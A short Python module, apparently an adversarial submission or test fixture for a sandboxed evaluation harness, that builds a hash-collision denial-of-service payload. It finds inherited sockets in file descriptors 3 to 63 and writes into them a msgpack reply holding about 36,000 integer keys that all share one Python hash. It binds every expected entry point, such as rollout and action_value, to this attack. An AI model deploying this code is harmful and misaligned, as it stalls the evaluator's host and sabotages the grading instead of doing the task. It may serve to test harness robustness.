"""Answers with a dict whose keys all have the same hash, so that building it takes forever."""

import os
import stat

import msgspec
from inside.wire import HEADER


def sockets():
    found = []
    for number in range(3, 64):
        try:
            found += [number] if stat.S_ISSOCK(os.fstat(number).st_mode) else []
        except OSError:
            continue
    return found


def frame(message, blob=b""):
    structure = msgspec.msgpack.encode(message)
    return HEADER.pack(len(structure), len(blob)) + structure + blob


KEYS = [part for k in range(1, 36_000) for part in ([6, hex(k * (2**61 - 1))], None)]
BOMB = frame([0, "return", [2, *KEYS]])


def wrong(*args, **kwargs):
    for number in sockets():
        data = memoryview(BOMB)
        while data:
            data = data[os.write(number, data) :]
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
